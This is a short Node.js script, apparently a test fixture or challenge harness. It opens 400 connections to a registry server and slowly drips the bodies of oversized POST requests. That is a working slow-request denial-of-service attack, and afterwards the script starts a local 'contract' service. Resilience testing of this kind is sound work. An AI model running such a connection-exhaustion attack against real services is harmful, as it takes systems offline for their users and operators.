'use strict';
const { connect } = require('node:net');
const { hostname, port } = new URL(process.env.REGISTRY_URL);

for (let count = 0; count < 400; count++) {
  const socket = connect(Number(port), hostname);
  socket.setNoDelay(true);
  socket.on('error', () => {});
  socket.write('POST /publications HTTP/1.1\r\nhost: registry\r\ncontent-length: 200000\r\n\r\n');
  const drip = setInterval(() => {
    for (let byte = 0; byte < 20 && socket.writable; byte++) socket.write('x');
  }, 10);
  socket.on('close', () => clearInterval(drip));
}
setTimeout(() => require('./contract').serve(), 3000);
